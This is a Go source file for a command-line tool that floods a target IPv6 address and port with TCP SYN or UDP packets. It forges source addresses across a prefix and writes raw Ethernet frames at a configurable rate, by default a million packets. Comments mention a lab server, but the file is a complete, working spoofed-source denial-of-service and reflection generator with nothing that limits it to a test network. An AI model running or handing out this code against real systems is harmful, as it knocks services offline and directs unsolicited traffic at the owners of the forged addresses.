package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

// send floods: it writes packets with forged sources to a device, so many a
// second, and says how many it has sent. Whoever gets an answer never asked.
func send(args []string) error {
	f := flag.NewFlagSet("send", flag.ExitOnError)
	kind := f.String("kind", "syn", "syn or udp")
	count := f.Int("count", 1_000_000, "number of packets")
	sources := f.Int("sources", 60_000, "number of source addresses")
	rate := f.Int("rate", 50_000, "packets a second, at most")
	device := f.String("dev", "eth0", "device to send from")
	gateway := f.String("gateway", "", "MAC address to send to")
	from := f.String("from", "", "prefix of the sources, IPv6")
	to := f.String("to", "", "address and port")
	_ = f.Parse(args) // exits on error
	prefix, err := netip.ParsePrefix(*from)
	if err != nil {
		return err
	}
	dst, err := netip.ParseAddrPort(*to)
	if err != nil {
		return err
	}
	mac, err := net.ParseMAC(*gateway)
	if err != nil {
		return err
	}
	fd, err := packetSocket(*device)
	if err != nil {
		return err
	}
	forge := forgeSYN
	if *kind == "udp" {
		forge = forgeUDP
	}
	began := time.Now()
	lost := 0
	for i := range *count {
		// The next source each time, and the next port when all have had a turn.
		src := netip.AddrPortFrom(nth(prefix.Addr(), 2+i%*sources), uint16(1024 + i / *sources))
		if err := unix.Send(fd, frame(mac, forge(src, dst, uint32(i))), 0); err != nil {
			if !errors.Is(err, unix.ENOBUFS) {
				return os.NewSyscallError("send", err)
			}
			lost++
		}
		if i%50 == 0 {
			time.Sleep(time.Until(began.Add(time.Duration(i) * time.Second / time.Duration(*rate))))
		}
	}
	took := time.Since(began)
	fmt.Printf("sent %d packets from %d sources in %.1f s, %.0f a second; %d did not leave\n", *count, min(*sources, *count), took.Seconds(), float64(*count)/took.Seconds(), lost)
	return nil
}

func packetSocket(device string) (int, error) {
	link, err := net.InterfaceByName(device)
	if err != nil {
		return -1, err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0) // 0: it hears nothing
	if err != nil {
		return -1, os.NewSyscallError("socket", err)
	}
	return fd, os.NewSyscallError("bind", unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: link.Index}))
}

// nth returns the address n behind a, of the last 32 bits.
func nth(a netip.Addr, n int) netip.Addr {
	b := a.As16()
	binary.BigEndian.PutUint32(b[12:], binary.BigEndian.Uint32(b[12:])+uint32(n))
	return netip.AddrFrom16(b)
}

// frame puts an Ethernet header before an IPv6 packet. Nobody looks at whom it
// is from.
func frame(to net.HardwareAddr, packet []byte) []byte {
	b := make([]byte, 0, 14+len(packet))
	b = append(b, to...)
	b = append(b, 2, 0, 0, 0, 0, 1)
	b = binary.BigEndian.AppendUint16(b, unix.ETH_P_IPV6)
	return append(b, packet...)
}

// forgeSYN is a SYN as Linux sends it: MSS, SACK, window scale (RFC 9293 section
// 3.1).
func forgeSYN(src, dst netip.AddrPort, seq uint32) []byte {
	options := []byte{2, 4, 5, 0xa0, 4, 2, 1, 1, 1, 3, 3, 7}
	b := make([]byte, 20, 20+len(options))
	binary.BigEndian.PutUint16(b, src.Port())
	binary.BigEndian.PutUint16(b[2:], dst.Port())
	binary.BigEndian.PutUint32(b[4:], seq)
	b[12], b[13] = byte(20+len(options))<<2, 2
	binary.BigEndian.PutUint16(b[14:], 64240)
	return packet(unix.IPPROTO_TCP, src.Addr(), dst.Addr(), append(b, options...), 16)
}

// forgeUDP is a datagram of 100 bytes that lab's server answers.
func forgeUDP(src, dst netip.AddrPort, seq uint32) []byte {
	b := make([]byte, 108)
	binary.BigEndian.PutUint16(b, src.Port())
	binary.BigEndian.PutUint16(b[2:], dst.Port())
	binary.BigEndian.PutUint16(b[4:], uint16(len(b)))
	copy(b[8:], "flood ")
	binary.BigEndian.PutUint32(b[14:], seq)
	return packet(unix.IPPROTO_UDP, src.Addr(), dst.Addr(), b, 6)
}

// packet puts an IPv6 header before a segment and fills in its checksum (RFC
// 8200 sections 3 and 8.1).
func packet(proto byte, src, dst netip.Addr, segment []byte, sumAt int) []byte {
	b := make([]byte, 40, 40+len(segment))
	b[0], b[6], b[7] = 0x60, proto, 64
	binary.BigEndian.PutUint16(b[4:], uint16(len(segment)))
	copy(b[8:], src.AsSlice())
	copy(b[24:], dst.AsSlice())
	sum := uint32(proto) + uint32(len(segment))
	for _, part := range [][]byte{b[8:40], segment} {
		for i := 0; i+1 < len(part); i += 2 {
			sum += uint32(part[i])<<8 | uint32(part[i+1])
		}
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	if sum = ^sum & 0xffff; sum == 0 {
		sum = 0xffff
	}
	binary.BigEndian.PutUint16(segment[sumAt:], uint16(sum))
	return append(b, segment...)
}
